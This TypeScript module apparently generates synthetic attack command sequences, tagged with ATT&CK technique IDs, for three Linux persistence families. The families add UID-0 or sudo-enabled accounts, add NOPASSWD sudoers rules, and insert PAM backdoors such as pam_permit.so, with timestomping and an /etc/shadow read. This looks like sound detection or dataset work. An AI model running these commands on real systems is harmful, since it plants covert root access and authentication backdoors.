import type { Attack } from '../scenario.ts';
import { look, maybe, quote, root, write } from '../ways.ts';

/** A new account, by chance a second root. */
const account: Attack = {
  name: 'account-added',
  family: 'account-added',
  techniques: ['T1136.001', 'T1098', 'T1548.003'],
  as: 'either',
  needs: ['useradd', 'usermod', 'chpasswd', 'openssl', 'python3', 'sudo'],
  lines: (draw, place) => {
    const name = draw.pick([
      draw.word().replace('-', ''),
      `svc${draw.int(1, 99)}`,
      `${draw.word().replace('-', '')}d`,
    ]);
    const pass = `${draw.word()}${draw.int(10, 9999)}`;
    const made = draw.pick([
      [root(place, `useradd -m -s /bin/bash ${name}`), `echo "${name}:${pass}" | ${root(place, 'chpasswd')}`],
      [
        root(place, `useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ${name}`),
        `echo '${name}:${pass}' | ${root(place, 'chpasswd')}`,
      ],
      [root(place, `useradd -r -m -G sudo -p "$(openssl passwd -6 ${pass})" ${name}`)],
      [
        `h=$(openssl passwd -1 ${pass})`,
        `echo "${name}:$h:0:0::/root:/bin/bash" | ${root(place, 'tee -a /etc/passwd')} > /dev/null`,
      ],
      [root(place, `bash -c "echo ${name}::0:0:${draw.word()}:/root:/bin/bash >> /etc/passwd"`)],
      [
        root(
          place,
          `sed -i 's#^${draw.pick(['games', 'news', 'lp', 'backup'])}:x:[0-9]*:[0-9]*\\(.*\\):[^:]*$#${name}:x:0:0\\1:/bin/bash#' /etc/passwd`,
        ),
      ],
      [
        root(
          place,
          `python3 -c ${quote(`open("/etc/passwd","a").write("${name}:x:0:0::/root:/bin/bash\\n")`)}`,
        ),
      ],
    ]);
    return [
      ...look(draw, draw.int(1, 2)),
      ...maybe(draw, 0.5, draw.pick(['id', 'tail -3 /etc/passwd', 'getent group sudo'])),
      ...made,
      ...maybe(draw, 0.4, root(place, draw.pick([`usermod -aG sudo ${name}`, `gpasswd -a ${name} sudo`]))),
      ...maybe(
        draw,
        0.3,
        `echo "${name} ALL=(ALL) NOPASSWD:ALL" | ${root(place, `tee /etc/sudoers.d/${draw.word()}`)} > /dev/null`,
      ),
      draw.pick([`id ${name}`, 'tail -2 /etc/passwd', `getent passwd ${name}`]),
      ...maybe(
        draw,
        0.5,
        root(place, `su ${name} -c '${draw.pick(['id', 'whoami; ls -la', 'cat /etc/shadow | head -2'])}'`),
      ),
      ...maybe(draw, 0.25, root(place, `userdel -f ${name}`)),
    ];
  },
};

/** Everyone becomes root by sudo. */
const sudoers: Attack = {
  name: 'sudo-rule-added',
  family: 'sudo-rule-added',
  techniques: ['T1548.003', 'T1222.002'],
  as: 'either',
  needs: ['sudo', 'visudo'],
  lines: (draw, place) => {
    const user = draw.pick([...place.users, 'www-data', 'nobody', 'ALL']);
    const rule = draw.pick([
      `${user} ALL=(ALL) NOPASSWD: ALL`,
      `${user} ALL=NOPASSWD: /bin/bash, /usr/bin/vim`,
      'Defaults !tty_tickets',
      'Defaults timestamp_timeout=-1',
    ]);
    const file = `/etc/sudoers.d/${draw.int(0, 1) ? `${draw.int(10, 99)}-` : ''}${draw.word()}`;
    return [
      ...look(draw, draw.int(1, 3)),
      ...maybe(draw, 0.5, 'sudo -n -l', root(place, 'ls -la /etc/sudoers.d')),
      draw.pick([
        `echo '${rule}' | ${root(place, `tee ${file}`)} > /dev/null`,
        root(place, `bash -c "echo '${rule}' >> /etc/sudoers"`),
        `printf '%s\\n' '${rule}' > /tmp/${draw.word()}; ${root(place, `cp $_ ${file}`)}`,
        root(place, `sed -i '$ a ${rule}' /etc/sudoers`),
      ]),
      ...maybe(draw, 0.5, root(place, `chmod ${draw.pick(['440', '400', '644'])} ${file}`)),
      ...maybe(draw, 0.4, root(place, 'visudo -c')),
      draw.pick([
        'sudo -n -l',
        root(place, `grep -r NOPASSWD /etc/sudoers /etc/sudoers.d`),
        root(place, `su ${draw.pick(place.users)} -c 'sudo -n id'`),
      ]),
      ...maybe(draw, 0.3, root(place, `rm -f ${file}`)),
    ];
  },
};

/** A password that always opens: a line in the authentication stack. */
const stack: Attack = {
  name: 'authentication-stack-changed',
  family: 'authentication-stack-changed',
  techniques: ['T1556.003'],
  as: 'either',
  needs: ['sudo', 'perl'],
  lines: (draw, place) => {
    const file = `/etc/pam.d/${draw.pick(['common-auth', 'sshd', 'su', 'sudo'])}`;
    const script = `/usr/local/sbin/${draw.word()}`;
    const log = `/var/${draw.pick(['tmp', 'cache', 'lib'])}/.${draw.word()}`;
    const line = draw.pick([
      'auth sufficient pam_permit.so',
      `auth optional pam_exec.so quiet seteuid ${script}`,
      `auth sufficient pam_succeed_if.so user = ${draw.pick(place.users)}`,
    ]);
    return [
      `cat ${file} | grep -v '^#'`,
      ...maybe(draw, 0.4, root(place, `cp -p ${file} /tmp/${draw.word()}`)),
      ...(line.includes(script)
        ? [
            write(draw, `/tmp/${draw.word()}.sh`, `#!/bin/sh\necho "$(date) $PAM_USER:$PAM_TTY" >> ${log}`),
            root(place, `cp $_ ${script}`),
            root(place, `chmod 755 ${script}`),
          ]
        : []),
      draw.pick([
        root(place, `sed -i '1i ${line}' ${file}`),
        root(place, `bash -c "echo '${line}' >> ${file}"`),
        root(place, `perl -pi -e 'print "${line}\\n" if $. == 1' ${file}`),
      ]),
      ...maybe(draw, 0.4, root(place, `touch -r /etc/pam.d/login ${file}`)),
      draw.pick([
        `head -3 ${file}`,
        `timeout 5 su ${draw.pick(place.users)} -c id < /dev/null`,
        root(place, `su ${draw.pick(place.users)} -c 'sudo -n id' < /dev/null`),
      ]),
    ];
  },
};

export const ACCOUNTS: readonly Attack[] = [account, sudoers, stack];
